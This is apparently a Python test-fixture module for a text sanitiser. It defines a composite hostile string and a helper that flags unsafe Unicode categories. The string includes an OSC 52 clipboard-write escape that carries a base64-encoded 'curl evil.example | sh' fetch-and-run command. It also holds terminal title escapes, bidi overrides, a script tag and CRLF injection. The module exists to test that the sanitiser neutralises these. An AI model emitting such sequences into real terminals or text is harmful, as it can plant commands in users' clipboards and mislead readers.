"""Hostile text for the tests of issue #20 (importable as ``hostile``), and what counts as unsafe.

What counts as unsafe is decided here from Unicode categories, not from the sanitiser's own list:
controls (Cc), lone surrogates (Cs), line/paragraph separators (Zl, Zp) and format characters (Cf:
bidi overrides and isolates, zero-width space, BOM, tags), except the soft hyphen and the
zero-width (non-)joiners that real text needs.
"""

from __future__ import annotations

import base64
import unicodedata

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
#: One string with a bit of everything: what an alert label, an event reason or a title could hold.
HOSTILE = (f"\x1b]0;pwned\x07Evil{OSC52} \x9b31mred\x1b[0m \u202eevil\u202c \u2066x\u2069 [bold]b[/] "
           "<script>x</script> | # `t`\r\nsecond line")
#: How the sanitiser shows the clipboard sequence (proof the text is there, literally).
OSC52_SHOWN = "␛]52;c;"

_KEPT = {"\u00ad", "\u200c", "\u200d"}


def unsafe(text: str, allow: str = "") -> list[str]:
    """The characters of ``text`` a terminal or reader could act on (besides those in ``allow``)."""
    return [c for c in text if c not in allow and c not in _KEPT
            and unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp", "Cf")]
